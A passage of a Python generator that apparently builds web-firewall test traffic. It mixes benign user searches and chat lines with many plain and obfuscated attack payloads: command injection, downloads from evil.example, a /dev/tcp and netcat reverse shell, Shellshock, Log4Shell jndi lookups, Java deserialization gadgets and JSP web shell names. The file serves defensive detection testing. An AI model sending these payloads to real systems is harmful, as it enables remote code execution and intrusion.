     ["& dir", "| type c:\\windows\\win.ini", "&& net user", "; ipconfig /all", "| whoami /priv"],
     ["& d^ir", "| ty^pe c:\\windows\\win.ini", "&& n\"e\"t user", "; IPCONFIG /all", "| who^ami /priv"]),
    ("932115", "rce", "windows-cmd-tools",
     ["& certutil -urlcache -f http://evil.example/x.exe x.exe",
      "| bitsadmin /transfer x http://evil.example/x c:\\x.exe", "&& reg query HKLM\\SAM", "| tasklist",
      "; systeminfo"],
     ["& cert^util -urlcache -f http://evil.example/x.exe x.exe",
      "| bits^admin /transfer x http://evil.example/x c:\\x.exe", "&& r^eg query HKLM\\SAM", "| TaskList",
      "; sys\"\"teminfo"]),
    ("932120", "rce", "windows-powershell",
     ["powershell -nop -c iex", "Invoke-Expression $x",
      "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')",
      "Invoke-WebRequest http://evil.example", "Start-Process calc"],
     ["PoWeRsHeLl -nop -c iex", "I`nvoke-Ex`pression $x",
      "iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')", "iwr http://evil.example",
      "Start-Process -FilePath calc"]),
    ("932130", "rce", "unix-shell-expression",
     ["$(id)", "`id`", "${IFS}", "$((1+1))", "<(id)"],
     ["$( id )", "`i\\d`", "$IFS$9", "$[1+1]", ">(id)"]),
    ("932140", "rce", "windows-for-if",
     ["for /f %i in ('dir') do echo %i", "if exist c:\\x.txt echo 1", "for %a in (*) do type %a",
      "& for /l %i in (1,1,9) do ping x", "| if 1==1 whoami"],
     ["FOR /F %i IN ('dir') DO echo %i", "if  exist c:\\x.txt echo 1", "for\t%a in (*) do type %a",
      "&for /L %i in (1,1,9) do ping x", "|If 1==1 whoami"]),
    ("932150", "rce", "unix-direct-command",
     ["uname -a", "cat /etc/hosts", "ls -la /", "wget http://evil.example/x", "curl http://evil.example/x"],
     ["un''ame -a", "c\\at /etc/hosts", "l\"s\" -la /", "wge$@t http://evil.example/x",
      "/usr/bin/curl http://evil.example/x"]),
    ("932160", "rce", "unix-shell-code",
     ["/bin/sh", "/bin/bash -c id", "/usr/bin/id", "/bin/cat /etc/passwd", "/usr/bin/env"],
     ["/bin//sh", "/b?n/bash -c id", "/usr/bin/i?", "/bin/c*t /etc/passwd", "/usr/bin/./env"]),
    ("932170", "rce", "shellshock-header",
     ["() { :; }; /bin/id", "() { :;}; echo vulnerable", "() { _; } >_[$($())] { id; }", "() { :; }; /bin/sleep 5",
      "() { x;}; /usr/bin/wget http://evil.example/x"],
     ["() {  :; }; /bin/id", "(){ :;};echo vulnerable", "()  { _; } >_[$($())] { id; }",
      "() { :; } ; /bin/sleep 5", "() {\tx;}; /usr/bin/wget http://evil.example/x"]),
    ("932171", "rce", "shellshock-args",
     ["() { ignored; }; /bin/id", "() { :; }; /bin/cat /etc/shadow", "() { 0; }; /bin/uname", "() { a;}; /bin/ls",
      "() { :; }; exec /bin/sh"],
     ["() {ignored; }; /bin/id", "()  { :; }; /bin/cat /etc/shadow", "() { 0;};/bin/uname",
      "() {\ta;}; /bin/ls", "() { :; };exec /bin/sh"]),
    ("932180", "rce", "restricted-file-upload",
     [".htaccess", ".htpasswd", "web.config", ".user.ini", ".bash_profile"],
     [".HTACCESS", ".htpasswd.", "Web.config", ".user.ini%00", "./.bash_profile"]),
    ("932200", "rce", "rce-bypass",
     ["c''at /etc/passwd", "who\\ami", "/bi?/ca? /et?/pa??wd", "ca$@t /etc/hosts", "cat$IFS/etc/passwd"],
     ["c''a\"t /etc/passwd", "w\\h\\o\\ami", "/???/c?t /e??/p?sswd", "c$()at /etc/hosts", "cat${IFS}/etc/passwd"]),
    ("4.x Unix Command Injection (without evasion)", "rce", "unix-cmd-plain",
     ["; nslookup evil.example", "| ping -c 1 evil.example", "; sleep 10", "&& env", "; chmod 777 /tmp/x"],
     [";nslookup evil.example", "|ping -c 1 evil.example", ";\tsleep 10", "\nenv", "; chmod  777 /tmp/x"]),
    ("4.x Unix Command Injection evasion", "rce", "unix-cmd-evasion",
     ["; {cat,/etc/passwd}", "; cat</etc/passwd", "; $'\\x69\\x64'", "; echo aWQ=|base64 -d|sh", "; id|rev|rev"],
     ["; {c''at,/etc/passwd}", "; cat</etc//passwd", "; $'\\151\\144'", "; echo aWQ= | base64 --decode | bash",
      "; i\\d|rev|rev"]),
    ("4.x Unix shell alias invocation", "rce", "unix-alias",
     ["; alias a=id; a", "; ll /", "; \\ls", "; command id", "; builtin echo x"],
     ["; alias a='i''d'; a", "; l\\l /", "; \\l''s", "; comm\\and id", "; buil''tin echo x"]),
    ("4.x Unix shell history invocation", "rce", "unix-history",
     ["; !!", "; !-1", "; !$", "; history", "; fc -s"],
     [";!!", "; !-2", "; !^", "; hist''ory", "; f\\c -s"]),
    ("4.x Unix pipes / 2-3 letter commands", "rce", "unix-short-cmd",
     ["|id", "|ls", "|ps", "|w", "|df"],
     ["| i\\d", "|l''s", "|p\"s\"", "|\tw", "|d$@f"]),
    ("4.x SQLite System Command Execution", "rce", "sqlite-shell",
     [".shell id", ".system id", ".shell ls /", ".system uname -a", ".shell whoami"],
     [".SHELL id", ".system\tid", "\n.shell ls /", ".system  uname -a", ".shell who''ami"]),
    ("4.x SMTP / IMAP / POP3 Command Execution", "rce", "mail-cmd-injection",
     ["\r\nRCPT TO:<a@evil.example>", "\r\nMAIL FROM:<a@evil.example>", "\r\na1 LOGIN admin x",
      "\r\nRETR 1", "\r\nDATA"],
     ["%0d%0aRCPT TO:<a@evil.example>", "\r\nmail from:<a@evil.example>", "\na1 LOGIN admin x",
      "\r\nretr 1", "\r\n\r\nDATA"]),
    ("4.x Windows Command Injection", "rce", "windows-cmd-evasion",
     ["& c^m^d /c dir", "| %COMSPEC% /c whoami", "& cmd.exe /c \"whoami\"", "| powershell -e dwBoAG8AYQBtAGkA",
      "& start /b calc.exe"],
     ["& c^m^d^.^e^x^e /c dir", "| %ComSpec% /c who^ami", "& cmd.exe /v:on /c \"set x=whoami&&!x!\"",
      "| pOwErShElL -eNc dwBoAG8AYQBtAGkA", "& st\"a\"rt /b calc.exe"]),
    ("4.x Unix Shell Code in REQUEST_HEADERS", "rce", "unix-shell-in-header",
     ["/bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "bash -c 'id'", "sh -c 'uname -a'",
      "nc -e /bin/sh 198.51.100.7 4444", "python -c 'import pty;pty.spawn(\"/bin/sh\")'"],
     ["/bin/ba\\sh -i >& /dev/tcp/198.51.100.7/4444 0>&1", "b''ash -c 'id'", "s\"h\" -c 'uname -a'",
      "n$()c -e /bin/sh 198.51.100.7 4444", "pyth''on -c 'import pty;pty.spawn(\"/bin/sh\")'"]),
    ("4.x Direct Unix Command Execution", "rce", "unix-abs-path",
     ["/usr/bin/whoami", "/bin/ls", "/sbin/ifconfig", "/usr/sbin/useradd x", "/bin/ps aux"],
     ["/usr/bin/who?mi", "/b*n/ls", "/s?in/ifconfig", "/usr/sbin/user[a]dd x", "/bin/p[s] aux"]),
]

JAVA_TITLES: list[Title] = [
    ("944100", "java", "java-suspicious-class",
     ["java.lang.Runtime", "java.lang.ProcessBuilder", "java.lang.Runtime.getRuntime()", "java.lang.ProcessImpl",
      "java.lang.UNIXProcess"],
     ["java.lang.Run\"+\"time", "JAVA.LANG.PROCESSBUILDER", "java.lang.Runtime .getRuntime()",
      "java/lang/ProcessImpl", "Ljava/lang/UNIXProcess;"]),
    ("944110", "java", "java-process-spawn",
     ["<java.lang.ProcessBuilder>", "new ProcessBuilder(\"id\").start()", "<command><string>id</string></command>",
      "java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\")", "<void method=\"start\"/>"],
     ["<java.lang.ProcessBuilder\n>", "new  ProcessBuilder (\"id\") . start()",
      "<command>\n<string>id</string></command>", "java.lang.ProcessBuilder (\"sh\",\"-c\",\"id\")",
      "<void method = \"start\" />"]),
    ("944120", "java", "java-serialization-gadget",
     ["org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime exec",
      "org.apache.commons.collections.functors.ChainedTransformer",
      "org.apache.commons.collections.functors.ConstantTransformer",
      "org.apache.commons.collections4.functors.InstantiateTransformer java.lang.ProcessBuilder",
      "org.apache.commons.collections.map.LazyMap"],
     ["org/apache/commons/collections/functors/InvokerTransformer java/lang/Runtime exec",
      "Lorg/apache/commons/collections/functors/ChainedTransformer;",
      "org.apache.commons.collections.functors.ConstantTransformer\u0000",
      "org.apache.commons.collections4.functors.InstantiateTransformer  java.lang.ProcessBuilder",
      "ORG.APACHE.COMMONS.COLLECTIONS.MAP.LAZYMAP"]),
    ("944130", "java", "java-class-names",
     ["com.opensymphony.xwork2.ActionContext", "ognl.OgnlContext", "javax.script.ScriptEngineManager",
      "java.net.URLClassLoader", "java.beans.XMLDecoder"],
     ["com%2eopensymphony%2exwork2%2eActionContext", "@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
      "Javax.Script.ScriptEngineManager", "java.net.URLClass\\u004coader", "java/beans/XMLDecoder"]),
    ("944200", "java", "java-magic-bytes",
     ["\xac\xed\x00\x05", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", "\xac\xed\x00\x05t\x00\x02id",
      "\xac\xed\x00\x05ur\x00\x13[Ljava.lang.Object;", "\xac\xed\x00\x05sr\x002sun.reflect.annotation.X"],
     ["x\xac\xed\x00\x05", "\n\xac\xed\x00\x05sr\x00\x11java.util.HashMap", "  \xac\xed\x00\x05t\x00\x02id",
      "%ac%ed%00%05ur", "\xac\xed\x00\x05w\x04\x00\x00\x00\x01sr"]),
    ("944210", "java", "java-magic-base64",
     ["rO0AB", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "rO0ABXQAAmlk", "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7",
      "rO0ABXcEAAAAAQ=="],
     ["data=rO0AB", "rO0ABXNyABFqYXZh\nLnV0aWwuSGFzaE1hcA==", "rO0ABXQAAmlk%3D",
      "data:application/x-java-serialized-object;base64,rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7",
      "Basic rO0ABXcEAAAAAQ=="]),
    ("944240", "java", "java-serialization-gadget-2",
     ["javax.management.BadAttributeValueExpException", "org.apache.commons.beanutils.BeanComparator",
      "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
      "sun.reflect.annotation.AnnotationInvocationHandler", "java.util.PriorityQueue java.lang.Runtime"],
     ["javax/management/BadAttributeValueExpException", "Lorg/apache/commons/beanutils/BeanComparator;",
      "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\u0000",
      "SUN.REFLECT.ANNOTATION.ANNOTATIONINVOCATIONHANDLER", "java.util.PriorityQueue  java.lang.Runtime"]),
    ("944250", "java", "java-suspicious-method",
     [".getRuntime()", ".exec(\"id\")", "Class.forName(\"java.lang.Runtime\")",
      ".getDeclaredMethod(\"exec\", String.class)", ".invoke(null)"],
     [".getRuntime ()", ".exec (\"id\")", "Class.forName ( \"java.lang.Runtime\" )",
      ".getDeclaredMethod('exec',String.class)", ".invoke( null )"]),
    ("4.x Log4j / Log4shell", "java", "java-log4shell",
     ["${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/a}", "${jndi:dns://evil.example/a}",
      "${jndi:ldaps://evil.example/a}", "${jndi:iiop://evil.example/a}"],
     ["${${lower:j}ndi:ldap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example:1099/a}",
      "${jndi:${lower:d}ns://evil.example/a}", "${j${env:X:-n}di:ldaps://evil.example/a}",
      "${${upper:j}ndi:iiop://evil.example/a}"]),
    ("4.x Malicious class-loading payload", "java", "java-class-loading",
     ["class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
      "class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/",
      "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "class['classLoader']",
      "getClass().getClassLoader()"],
     ["Class.Module.ClassLoader.resources.context.parent.pipeline.first.pattern=x",
      "class['classLoader']['URLs'][0]=jar:http://evil.example/x.jar!/",
      "class.module.classLoader.resources.context.parent.pipeline.first.suffix =.jsp", "class[\"classLoader\"]",
      "getClass( ).getClassLoader( )"]),
    ("4.x Java script file upload", "java", "java-jsp-upload",
     ["shell.jsp", "cmd.jspx", "inc.jspf", "filename=\"x.jsp\"", "webapps/ROOT/x.jsp"],
     ["shell.JSP", "cmd.jspx.", "inc.jspf%00.png", "filename=\"x.jSp\"", "shell.jsp;.jpg"]),
]

TITLES: list[Title] = PHP_TITLES + GENERIC_TITLES + XSS_TITLES + LFI_TITLES + RFI_TITLES + RCE_TITLES + JAVA_TITLES

# payloads whose attack is a parameter name: they go in as `name=value` (a nested JSON key in JSON)
PARAM_SUBS = {"rfi-param-name", "session-fixation-referer", "session-fixation-no-referer", "js-prototype-pollution"}
# payloads sent as single bytes (Latin-1) where a URL or form carries them
BINARY_SUBS = {"java-magic-bytes", "xss-ascii-malformed"}
OFF_DOMAIN_REFERER = "https://promo.evil-login.example/win?ref=mail"

MAIN = ["query", "form", "json", "path", "header"]

UAS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36", "gzip, deflate, br, zstd"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36", "gzip, deflate, br, zstd"),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "gzip, deflate, br, zstd"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0", "gzip, deflate, br, zstd"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
     "Safari/605.1.15", "gzip, deflate, br"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36 Edg/126.0.0.0", "gzip, deflate, br, zstd"),
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
         "es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8"]
APP_PAGES = ["/users", "/users?page=2", "/dashboard", "/admin/users", "/settings/profile", "/teams/platform",
             "/search", "/reports/weekly"]
CONSENT = ["cookie_consent=all", "cookie_consent=necessary", "consent=necessary%2Canalytics",
           "CookieConsent={necessary:true%2Cstats:false}", "cc_cookie=accepted"]
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search for ", "bug report: ", "can you check "]
FIRST = ["Dana", "Luis", "Mei", "Omar", "Priya", "Jonas", "Aoife", "Kwame", "Sofia", "Hiro"]
LAST = ["Whitfield", "Garcia", "Chen", "Haddad", "Raman", "Berg", "Murphy", "Mensah", "Rossi", "Tanaka"]
DEPTS = ["Finance", "Platform", "Support", "Marketing", "Legal", "Sales", "People Ops", "Security"]
JOBS = ["Analyst", "Engineer", "Team Lead", "Designer", "Account Manager", "Recruiter"]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "location", "website", "nickname"]
SETTINGS_FIELDS = ["display_name", "signature", "status_text", "timezone"]
COOKIE_NAMES = ["last_search", "prefs", "recent_filter", "return_to"]
PATH_SAFE = "!$&'()*+,;=:@[]|^~"


class Maker:
    """Requests in the six places, with a current browser's headers (or Slack's), from one seeded source."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.json_n = 0
        self.path_n = 0
        self.header_n = 0
        self.alt_n = 0
        self.slack_n = 0

    def token(self, n: int = 32) -> str:
        chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        return "".join(self.rng.choice(chars) for _ in range(n))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def sid(self, prefix: str, n: int = 10) -> str:
        return prefix + "".join(self.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(n))

    def browser(self, kind: str, referer: str | None = "app", cookie_extra: str = "") -> dict[str, str]:
        """A current browser's headers: kind "api" (the single-page app's fetch) or "form" (a form post)."""
        ua, enc = self.rng.choice(UAS)
        h = {"User-Agent": ua}
        if kind == "form":
            h["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
        else:
            h["Accept"] = "application/json, text/plain, */*"
        h["Accept-Language"] = self.rng.choice(LANGS)
        h["Accept-Encoding"] = enc
        if referer == "app":
            h["Referer"] = "https://app.example.com" + self.rng.choice(APP_PAGES)
        elif referer:
            h["Referer"] = referer
        if kind == "form":
            h.update({"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "same-origin",
                      "Sec-Fetch-User": "?1"})
        else:
            h.update({"Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-origin"})
        cookie = f"session={self.token(43)}; {self.rng.choice(CONSENT)}"
        if cookie_extra:
            cookie += "; " + cookie_extra
        h["Cookie"] = cookie
        return h

    def slack_headers(self) -> dict[str, str]:
        return {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
                "X-Slack-Request-Timestamp": str(1719000000 + self.slack_n * 7),
                "X-Slack-Signature": "v0=" + self.hexs(64)}

    def person(self) -> dict[str, str]:
        first, last = self.rng.choice(FIRST), self.rng.choice(LAST)
        return {"name": f"{first} {last}", "email": f"{first.lower()}.{last.lower()}@example.com",
                "department": self.rng.choice(DEPTS), "title": self.rng.choice(JOBS)}

    # --- the six places -------------------------------------------------------------------------------------

    def query(self, params: list[tuple[str, str]], referer: str | None = "app") -> dict[str, Any]:
        extra = [("page", str(self.rng.randint(1, 9))), ("per_page", self.rng.choice(["20", "50", "100"]))]
        allp = list(params) + extra
        self.rng.shuffle(allp)
        qs = "&".join(f"{k}={v}" for k, v in allp)
        return {"method": "GET", "uri": "/api/users?" + qs, "body": "", "headers": self.browser("api", referer)}

    def form(self, uri: str, fields: list[tuple[str, str]], referer: str | None = "app") -> dict[str, Any]:
        body = "&".join(f"{k}={v}" for k, v in [("csrf_token", self.token(32))] + fields)
        headers = self.browser("form", referer)
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        return {"method": "POST", "uri": uri, "body": body, "headers": headers}

    def json_api(self, method: str, uri: str, doc: dict[str, Any], referer: str | None = "app") -> dict[str, Any]:
        headers = self.browser("api", referer)
        headers["Content-Type"] = "application/json"
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False), "headers": headers}

    def slack(self, text: str) -> dict[str, Any]:
        self.slack_n += 1
        ts = f"{1719000000 + self.slack_n * 7}.{self.rng.randint(0, 999999):06d}"
        mention = self.slack_n % 3 == 0
        event = {"type": "app_mention" if mention else "message", "user": self.sid("U"),
                 "text": ("<@U0BOTHELPR> " + text) if mention else text, "ts": ts,
                 "channel": self.sid("C"), "event_ts": ts}
        body = {"token": self.token(24), "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2", "event": event,
                "type": "event_callback", "event_id": self.sid("Ev"), "event_time": 1719000000 + self.slack_n * 7}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": self.slack_headers()}

    def get_path(self, segment: str, referer: str | None = "app") -> dict[str, Any]:
        self.path_n += 1
        base = "/api/users/" if self.path_n % 3 else "/api/"
        return {"method": "GET", "uri": base + segment, "body": "", "headers": self.browser("api", referer)}

    def with_header(self, which: str, value: str, referer: str | None = "app") -> dict[str, Any]:
        """An ordinary list request whose User-Agent, Referer or one cookie carries `value`."""
        cookie_extra = ""
        if which.startswith("cookie:"):
            cookie_extra = which[len("cookie:"):] + "=" + value
        req = self.query([], referer)
        req["headers"] = self.browser("api", referer, cookie_extra)
        if which == "ua":
            req["headers"]["User-Agent"] = value
        elif which == "referer":
            req["headers"]["Referer"] = value
        return req


# --- encodings -----------------------------------------------------------------------------------------------

def _enc(binary: bool) -> str:
    return "latin-1" if binary else "utf-8"


def form_enc(value: str, binary: bool = False) -> str:
    """As a browser form-encodes a field (also a GET form's query)."""
    return urllib.parse.quote_plus(value, safe="*", encoding=_enc(binary))


def path_enc(value: str, binary: bool = False) -> str:
    """One path segment: `/`, `?`, `#`, space, `%` and what a browser escapes in a path, percent-encoded."""
    return urllib.parse.quote(value, safe=PATH_SAFE, encoding=_enc(binary))


def header_value(value: str, binary: bool = False, cookie: bool = False) -> str:
    """A header value as it can be sent: control characters (and for a byte payload, bytes 0x80-0xff) escaped
    as %XX; in a cookie also `;`."""
    out = []
    for c in value:
        o = ord(c)
        if (o < 0x20 and c != "\t") or o == 0x7F or (binary and 0x80 <= o <= 0xFF) or (cookie and c == ";"):
            out.append(f"%{o:02X}")
        else:
            out.append(c)
    return "".join(out)


def split_param(payload: str) -> tuple[str, str]:
    name, _, value = payload.partition("=")
    return name, value


def nested(name: str, value: str) -> dict[str, Any]:
    """`a[b][c]` = v as the JSON a body parser makes of it: {"a": {"b": {"c": v}}}."""
    keys = [k for k in name.replace("]", "").split("[")]
    doc: Any = value
    for k in reversed(keys):
        doc = {k: doc}
    out: dict[str, Any] = doc
    return out


# --- attacks -------------------------------------------------------------------------------------------------

def title_places(t: int) -> list[str]:
    """The ten places of title t's payloads (five atomic, then five obfuscated): each main place twice, bar one
    whose second turn is "alt"."""
    first = MAIN[t % 5:] + MAIN[:t % 5]
    k = (t + 2) % 5
    second = MAIN[k:] + MAIN[:k]
    second[4] = "alt"
    return first + second


def attack_request(m: Maker, place: str, payload: str, sub: str) -> tuple[dict[str, Any], str]:
    """The request carrying `payload` in `place`, and the placement recorded."""
    binary = sub in BINARY_SUBS
    param = sub in PARAM_SUBS
    referer: str | None = "app"
    if sub == "session-fixation-referer":
        referer = OFF_DOMAIN_REFERER
    elif sub == "session-fixation-no-referer":
        referer = None
    name, value = split_param(payload) if param else ("q", payload)

    if place == "query":
        if param:
            pair = (urllib.parse.quote(name, safe="[]"), urllib.parse.quote(value, safe=":/?=@%"))
        else:
            pair = ("q", form_enc(payload, binary))
        return m.query([pair], referer), "query"
    if place == "form":
        return m.form("/admin/users/search", [(form_enc(name), form_enc(value, binary))], referer), "form"
    if place == "json":
        m.json_n += 1
        if m.json_n % 2 == 0:
            lead = SLACK_LEADS[(m.json_n // 2) % len(SLACK_LEADS)]
            return m.slack(lead + payload), "json"
        doc: dict[str, Any] = m.person()
        if param:
            doc.update(nested(name, value))
        else:
            doc[JSON_FIELDS[(m.json_n // 2) % len(JSON_FIELDS)]] = payload
        return m.json_api("POST", "/api/users", doc, referer), "json"
    if place == "path":
        if param:
            return m.get_path("42;" + path_enc(payload), referer), "path"
        return m.get_path(path_enc(payload, binary), referer), "path"
    if place == "header":
        m.header_n += 1
        if param:
            cookie_name = urllib.parse.quote(name, safe="[]")
            return m.with_header("cookie:" + cookie_name, header_value(value, cookie=True), referer), "cookie"
        slot = m.header_n % 5
        if slot == 3 and referer is not None:
            return m.with_header("referer", header_value(payload, binary), referer), "header:Referer"
        if slot == 4:
            cname = COOKIE_NAMES[(m.header_n // 5) % len(COOKIE_NAMES)]
            return (m.with_header("cookie:" + cname, header_value(payload, binary, cookie=True), referer),
                    "cookie")
        return m.with_header("ua", header_value(payload, binary), referer), "header:User-Agent"
    # alt: the same as query/form/json, on /api/users/42 (PATCH, JSON) or /me/settings (form)
    m.alt_n += 1
    if m.alt_n % 2:
        doc = nested(name, value) if param else {JSON_FIELDS[m.alt_n % len(JSON_FIELDS)]: payload}
        return m.json_api("PATCH", "/api/users/42", doc, referer), "json"
    field = name if param else SETTINGS_FIELDS[(m.alt_n // 2) % len(SETTINGS_FIELDS)]
    return m.form("/me/settings", [(form_enc(field), form_enc(value, binary))], referer), "form"


def attacks() -> Iterator[dict[str, Any]]:
    m = Maker(6900)
    n = 0
    for t, (_crs, category, sub, atomic, obfuscated) in enumerate(TITLES):
        for place, payload in zip(title_places(t), atomic + obfuscated, strict=True):
            req, placement = attack_request(m, place, payload, sub)
            n += 1
            if place == "alt":
                placement = "alt-" + placement
            yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": placement, "payload": payload}


# --- benign --------------------------------------------------------------------------------------------------

# what people type into the user search (query and admin form)
SEARCHES = [
    "ann lee", "O'Brien", "josé garcía", "Zoë Müller", "php developer", "java runtime team", "script writer",
    "system administrator", "exec assistant", "process engineer", "node.js", "python", "perl", "ruby on rails",
    "data scientist", "file clerk", "document control", "cookie policy", "session manager", "style guide",
    "object storage", "link building", "embed video", "import export", "meta team", "frame shop",
    "marquee events", "constructor crew", "prototype lab", "class of 2019", "window installer", "alert manager",
    "prompt engineering", "confirm order", "top performers", "parent portal", "self service", "global ops",
    "shell oil", "bash party", "who am I", "cat owners club", "ping pong club", "echo team", "dir of sales",
    "type design", "R&D", "AT&T", "Smith & Jones", "C++", "C#", "F#", "50% off", "100% remote", "$100 budget",
    "cost < 500", "age > 30", "tom's diner", "\"exact phrase\"", "name:ann", "email:*@example.com", "user 42",
    "eval period", "evaluation", "system", "systems team", "runtime", "java", "javascript trainer",
    "base camp", "applet", "location berlin", "name", "location", "top", "history", "command center",
    "alias", "env", "sleep lab", "curl hair salon", "wget", "id card", "passport", "info desk", "file",
    "include", "page", "template", "path", "data", "input", "filter", "expect", "phar", "glob", "zip code",
    "compress", "memory", "stdin", "fd", "exec", "assert", "popen", "chmod", "mail room", "putenv",
    "highlight", "source", "open", "require", "process", "module", "global", "window", "document", "cookie",
    "innerHTML", "style", "marquee", "vml", "embed", "link", "base", "object", "meta", "charset",
    "utf-7", "UTF-8", "angular", "{{name}}", "template literal", "constructor", "prototype", "hash",
    "dot dot", "..", "etc", "passwd reset", "shadow IT", "proc", "win.ini", "boot", "htaccess",
    "git config", "env vars", "web config", "WEB-INF", "http://example.com", "https://docs.example.com/a?",
    "ftp", "file share", "ps", "ls", "df", "w", "net user group", "ipconfig", "tasklist", "for loop",
    "if else", "powershell", "Invoke", "Start-Process", "cmd", "certutil", "bitsadmin", "reg",
    "sqlite", ".shell", "RCPT", "LOGIN", "RETR", "DATA team", "Runtime", "ProcessBuilder", "ClassLoader",
    "InvokerTransformer", "ognl", "jndi", "ldap", "rmi", "dns", "log4j", "class", "jsp", "war file",
]

# Slack messages and bios: developers and colleagues talking about the same things
CHATS = [
    "anyone know how to turn off phpinfo on staging? it leaks the php version",
    "we removed the last eval() from the legacy admin today",
    "the PHP 8.3 upgrade broke two composer packages, fixing now",
    "reminder: never unserialize user input, use json_decode instead",
    "our upload form now rejects .php and .phtml files, thanks Mei",
    "set allow_url_include to Off in every php.ini, it already is in prod",
    "php://input is how the webhook handler reads the raw body",
    "does anyone still use $_REQUEST? I'd like to lint it away",
    "shell_exec is disabled in disable_functions on the shared hosts",
    "the old importer calls system() to run ImageMagick, ticket filed",
    "Node 20 upgrade done; child_process.spawn now gets an args array",
    "process.env is read once in config.ts, don't read it in handlers",
    "require('fs') in the lambda is fine, it is bundled",
    "while(true) loop in the poller pegged the CPU, fixed with a sleep",
    "prototype pollution talk at the meetup was great, slides are in the drive",
    "use Object.create(null) for the lookup map to avoid __proto__ surprises",
    "the metadata endpoint 169.254.169.254 is blocked from the pods now",
    "localhost:8080 is the API in dev, 3000 the front end",
    "the new VPN hands out 10.0.0.0/16 addresses",
    "Ruby script for the export uses Open3, works fine",
    "perl one-liner to rename the files: perl -pi -e 's/foo/bar/' *.txt",
    "our XSS review found nothing in the new editor, nice work",
    "remember to escape <script> in the markdown preview",
    "the onload handler on the chart fires twice, investigating",
    "we use javascript: links nowhere anymore, CSP forbids them",
    "the iframe for the help widget loads from help.example.com",
    "document.cookie access is gone now that the session cookie is HttpOnly",
    "the style attribute on that div sets the background colour",
    "innerHTML replaced with textContent in the comments component",
    "the <meta charset=\"utf-8\"> tag was missing in the email template",
    "link rel=preload for the fonts saves 200 ms",
    "base href in the SPA is /app/",
    "the object tag for the PDF viewer is replaced by pdf.js",
    "Angular templates use {{ user.name }}, the values are escaped",
    "the window object is undefined in SSR, guard it",
    "top-level await in the build script needs Node 14.8+",
    "alert fatigue is real, let's tune the pager rules",
    "please confirm the meeting for Friday",
    "prompt: summarise the release notes in three bullet points",
    "the eval results for the model are in the sheet",
    "our session fixation test passes; the id rotates on login",
    "JSESSIONID shows up in the URL of the old Tomcat app, we should fix that",
    "PHPSESSID cookie is set with SameSite=Lax now",
    "the ../ in the relative import is correct, the file moved",
    "config lives in /etc/myapp/config.yml on the hosts",
    "logs are in /var/log/myapp, rotated daily",
    "the .env file must never be committed, it's in .gitignore",
    "web.config is only for the IIS box",
    "WEB-INF/web.xml declares the servlet mappings",
    "the .htaccess rewrite rules moved to nginx",
    "file upload goes to s3, the old include path is gone",
    "the template path setting is templates/emails",
    "https://example.com/docs?page=2 is the doc link you wanted",
    "ftp server is being retired at the end of the month",
    "run ls -la in the build container to see the permissions",
    "cat the log and grep for ERROR, that's usually enough",
    "the cron job runs uname -a to fill the inventory",
    "curl -s https://status.example.com returns the health JSON",
    "wget is not installed in the distroless image",
    "use ps aux | grep node to find the stray process",
    "the bash alias ll = ls -l is in my dotfiles",
    "history | grep deploy shows what I ran",
    "sleep 10 between retries is plenty",
    "sqlite is fine for the local cache",
    "the SMTP relay rejects RCPT TO for external domains, as intended",
    "IMAP login failures spiked at 3am, probably a bot",
    "the for loop in the batch file iterates over the csv rows",
